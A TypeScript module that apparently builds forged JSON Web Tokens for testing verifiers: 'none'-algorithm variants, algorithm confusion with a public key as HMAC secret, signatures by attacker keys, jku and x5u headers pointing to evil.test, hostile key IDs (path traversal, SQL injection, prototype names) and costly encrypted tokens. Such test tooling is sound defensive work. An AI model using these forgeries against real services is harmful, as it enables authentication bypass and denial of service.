import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'

type Json = Readonly<Record<string, unknown>>

/** A token taken apart. */
export interface Parts {
  readonly header: Json
  readonly payload: Json
  readonly text: string
}

const encode = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

export function takeApart(text: string): Parts {
  const [header = '', payload = ''] = text.split('.')
  const decode = (part: string): Json => JSON.parse(Buffer.from(part, 'base64url').toString()) as Json
  return { header: decode(header), payload: decode(payload), text }
}

/** Signs a header and a payload, a text as it stands. */
export type Signer = (header: unknown, payload: unknown) => string

const signed =
  (make: (input: string) => Buffer): Signer =>
  (header, payload) => {
    const input = `${encode(header)}.${encode(payload)}`
    return `${input}.${make(input).toString('base64url')}`
  }

export const withSecret = (secret: Uint8Array | string, digest = 'sha256'): Signer =>
  signed((input) => createHmac(digest, secret).update(input).digest())

/** With a private key: Ed25519, P-256 or RSA. */
const withKey = (key: KeyObject): Signer =>
  signed((input) => {
    const data = Buffer.from(input)
    if (key.asymmetricKeyType === 'ed25519') return sign(null, data, key)
    return sign('sha256', data, { key, dsaEncoding: 'ieee-p1363' })
  })

const own = {
  ed25519: generateKeyPairSync('ed25519'),
  ec: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
  rsa: generateKeyPairSync('rsa', { modulusLength: 2_048 }),
  secret: Buffer.alloc(32, 7),
} as const

const algorithms = ['none', 'None', 'nOnE', 'HS256', 'HS384', 'RS256', 'ES256', 'EdDSA'] as const

/** A signature that is right, under a key of the attacker's. */
const foreign: Readonly<Record<(typeof algorithms)[number], Signer>> = {
  none: withSecret(own.secret),
  None: withSecret(own.secret),
  nOnE: withSecret(own.secret),
  HS256: withSecret(own.secret),
  HS384: withSecret(own.secret, 'sha384'),
  RS256: withKey(own.rsa.privateKey),
  ES256: withKey(own.ec.privateKey),
  EdDSA: withKey(own.ed25519.privateKey),
}

/** The spellings in which somebody may take a public key for the secret of an HMAC. */
const spellings = (jwk: Json): readonly (Uint8Array | string)[] => [
  JSON.stringify(jwk),
  String(jwk['x']),
  Buffer.from(String(jwk['x']), 'base64url'),
  jwk['kty'] === 'OKP'
    ? Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), Buffer.from(String(jwk['x']), 'base64url')])
    : Buffer.concat(['x', 'y'].map((name) => Buffer.from(String(jwk[name]), 'base64url'))),
]

/** Attack by name: what none of them may be is accepted. */
export type Attacks = Readonly<Record<string, string>>

/** All algorithms, each with a signature by another key, with a public key as the secret, with none and with less. */
export function algorithmAttacks({ header, payload, text }: Parts, published: readonly Json[]): Attacks {
  const attacks: Record<string, string> = {}
  for (const alg of algorithms) {
    const claimed = { ...header, alg }
    const forged = foreign[alg](claimed, payload)
    const [head, body] = forged.split('.')
    attacks[`${alg}, signed by another key`] = forged
    attacks[`${alg}, empty`] = `${head}.${body}.`
    attacks[`${alg}, stripped`] = `${head}.${body}`
    if (alg !== header['alg'])
      attacks[`${alg}, with the signature of the original`] = `${head}.${body}.${text.split('.')[2]}`
    for (const [index, secret] of published.flatMap(spellings).entries()) {
      const digest = alg === 'HS384' ? 'sha384' : 'sha256'
      attacks[`${alg}, public key as secret ${index}`] = withSecret(secret, digest)(claimed, payload)
    }
  }
  return attacks
}

/** Headers that bring a key of their own, or ask for what nobody knows. */
export function headerAttacks({ header, payload }: Parts): Attacks {
  const jwk = own.ed25519.publicKey.export({ format: 'jwk' })
  const mine = (more: Json) => withKey(own.ed25519.privateKey)({ ...header, alg: 'EdDSA', ...more }, payload)
  return {
    jku: mine({ jku: 'https://evil.test/jwks.json', kid: 'evil' }),
    x5u: mine({ x5u: 'https://evil.test/cert.pem' }),
    jwk: mine({ jwk }),
    'jwk without kid': mine({ jwk, kid: undefined }),
    x5c: mine({ x5c: [own.ec.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')] }),
  }
}

export const hostileKeyIds = [
  '../../dev/null',
  '/proc/self/environ',
  "' or 1=1 --",
  '%27%20or%201=1',
  'https://evil.test/key',
  '__proto__',
  'constructor',
  'toString',
  'A'.repeat(32),
  '',
  7,
  null,
  true,
  ['x'],
  { toString: 'x' },
] as const

/** Encrypted tokens whose opening would cost what their sender says. */
export const encryptedTokens: Attacks = {
  'password-based, with a billion rounds': [
    encode({ alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', p2c: 1_000_000_000, p2s: encode('salt of the attacker') }),
    'A'.repeat(54),
    'A'.repeat(16),
    'A'.repeat(64),
    'A'.repeat(22),
  ].join('.'),
  compressed: [
    encode({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' }),
    '',
    'A'.repeat(16),
    'A'.repeat(2_000),
    'A'.repeat(22),
  ].join('.'),
}
